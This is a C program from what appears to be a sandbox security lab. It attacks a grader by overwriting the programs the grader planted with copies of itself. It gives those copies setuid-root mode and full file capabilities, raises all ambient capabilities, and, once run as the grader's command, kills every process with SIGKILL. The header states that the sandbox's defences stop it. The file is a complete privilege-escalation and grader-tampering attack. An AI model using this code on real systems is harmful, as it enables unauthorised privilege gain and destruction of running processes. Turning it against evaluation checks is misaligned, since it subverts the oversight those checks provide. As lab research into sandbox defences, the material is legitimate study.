/* SPDX-License-Identifier: MIT */
/*
 * plant-again.c - puts itself in the place of the programs that the grader
 * planted, with their privilege, and executes that
 *
 * Attack: overwrite what is looked at
 * Lab: 08-capabilities
 * Stopped: COMMAND is recognised by the content of its file, not by its name;
 *          and a set-user-ID root program in the sandbox is root of nothing
 *          but the sandbox
 */
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

static bool plant(const char *path, bool with_privilege)
{
	const struct vfs_cap_data all = {
		.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
		.data = { { UINT32_MAX, UINT32_MAX }, { 0x1ff, 0x1ff } },
	};
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int to = open("/bin/gain/new", O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC,
		      0755);
	struct stat st;

	if (from < 0 || to < 0 || fstat(from, &st) < 0)
		return false;
	while (st.st_size > 0) {
		ssize_t n = sendfile(to, from, NULL, (size_t)st.st_size);

		if (n <= 0)
			break;
		st.st_size -= n;
	}
	if (with_privilege) {
		(void)fchmod(to, 06755);
		(void)fsetxattr(to, "security.capability", &all, sizeof(all),
				0);
	}
	(void)close(to);
	(void)close(from);
	if (rename("/bin/gain/new", path) == 0)
		return true;
	/* Where the folder is not ours, over the file itself. */
	(void)rename("/bin/gain/new", "/bin/probe");
	return false;
}

/* What the checks would like to see of COMMAND: all there is, handed on. */
static void look_right(void)
{
	struct __user_cap_header_struct header = {
		.version = _LINUX_CAPABILITY_VERSION_3
	};
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &header, data) < 0)
		return;
	for (int i = 0; i < 2; i++)
		data[i].inheritable = data[i].effective = data[i].permitted;
	(void)syscall(SYS_capset, &header, data);
	for (int c = 0; c <= CAP_LAST_CAP; c++)
		(void)prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, c, 0, 0);
}

int main(int argc, char *argv[])
{
	const char *command = argc > 2 ? argv[argc - 2] : "/bin/gain/plain";

	if (argc > 1 && strcmp(argv[1], "hold") == 0) {
		/* Root at last?  Then so. */
		(void)kill(-1, SIGKILL);
		(void)alarm(3); /* time to be looked at */
		for (;;)
			pause();
	}
	(void)plant("/bin/gain/filecap", true);
	(void)plant("/bin/gain/setuid", true);
	/* Ambient capabilities stay over the execve(2) of a plain file. */
	if (plant("/bin/gain/plain", false))
		look_right();
	execl(command, command, "hold", (char *)NULL);
	return 1;
}
